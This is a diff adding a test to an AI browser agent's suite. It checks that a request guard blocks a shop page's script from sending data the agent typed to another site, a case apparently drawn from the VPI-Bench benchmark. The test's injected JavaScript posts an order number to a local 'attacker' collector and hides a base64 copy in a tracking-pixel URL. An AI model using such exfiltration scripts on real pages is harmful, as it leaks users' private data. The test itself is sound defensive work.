@@ -252,3 +252,64 @@ def test_a_link_whose_address_is_a_script_is_not_clicked_a_no_op_one_is(web_page
         assert arun(web_page.run_js("document.title", world=0)) == "Links"
         agent("click_element", selector="#noop")
         assert arun(web_page.run_js("document.title", world=0)) == "clicked"
+
+
+def test_a_pages_own_script_cannot_send_what_the_agent_read_elsewhere(web_page: QtWebEnginePage, arun: Run,
+                                                                     qtbot: Any) -> None:
+    """VPI-Bench's form that its script posts to the attacker (issue 28): after the agent typed what
+    it read into the page, the page's POST to another site is blocked, as is a request whose address
+    carries a read value in disguise; the page's other requests go through."""
+    import base64
+
+    from jawad_desktop.core.harbor.engine import Harbor
+    from jawad_desktop.core.tools.browser import make_request_guard
+
+    arrived: list[str] = []
+
+    class Collector(BaseHTTPRequestHandler):
+        def _note(self) -> None:
+            size = int(self.headers.get("Content-Length") or 0)
+            arrived.append(f"{self.command} {self.path} {self.rfile.read(size).decode(errors='replace')}")
+            self.send_response(204)
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.end_headers()
+
+        do_GET = do_POST = _note
+
+        def log_message(self, format: str, *args: Any) -> None:
+            pass
+
+    page = ("<!doctype html><html><head><meta charset='utf-8'><title>Shop</title></head><body>"
+            "<p>Order number: JD-48213-K</p><form id='f'><input name='order'></form></body></html>")
+
+    class Shop(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            body = page.encode()
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html; charset=utf-8")
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, format: str, *args: Any) -> None:
+            pass
+
+    harbor = Harbor()
+    agent = Agent(web_page, arun)
+    web_page.request_guard = make_request_guard(harbor, agent.ctx.browser)
+    with serving(Shop, "shop") as shop, serving(Collector, "collector") as collector:
+        attacker = collector.replace("127.0.0.1", "localhost")  # another site
+        agent("navigate", url=f"{shop}/")
+        harbor.dataflow.record("Order number: JD-48213-K", shop)
+        agent.ctx.browser.note_typed(f"{shop}/", "JD-48213-K")
+        encoded = base64.b64encode(b"JD-48213-K").decode()
+        arun(web_page.run_js(
+            f"fetch('{attacker}/sheet', {{method: 'POST', mode: 'no-cors', body: 'order=JD-48213-K'}})"
+            ".catch(function () {});"
+            f"fetch('{attacker}/pixel?o={encoded}', {{mode: 'no-cors'}}).catch(function () {{}});"
+            f"fetch('{attacker}/hello', {{mode: 'no-cors'}}).catch(function () {{}}); 1", world=0))
+        qtbot.waitUntil(lambda: any("/hello" in a for a in arrived), timeout=10_000)
+        qtbot.wait(300)
+    assert [a for a in arrived if "/sheet" in a or "/pixel" in a] == []
+    blocked = " ".join(web_page.blocked_requests)
+    assert "/sheet" in blocked and "/pixel" in blocked
